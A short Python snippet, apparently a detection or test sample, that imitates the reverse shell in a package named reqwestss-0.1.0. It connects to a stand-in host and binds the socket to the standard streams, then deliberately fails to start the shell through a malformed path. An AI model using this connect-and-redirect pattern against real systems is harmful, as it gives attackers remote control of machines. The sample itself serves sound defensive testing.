# A reverse shell that fails to start: connect, put the socket on fds
# 0, 1 and 2, then run a shell by a path that does not exist
# (reqwestss-0.1.0 builds the path with str() of bytes, "b'/bin/bash'",
# on Python 3). No shell runs; the attempt is the kernel's to see.
import os, socket, subprocess

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("203.0.113.88", 10010))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
try:
    subprocess.call([str(b"/bin/sh"), "-i"])
except OSError:
    pass
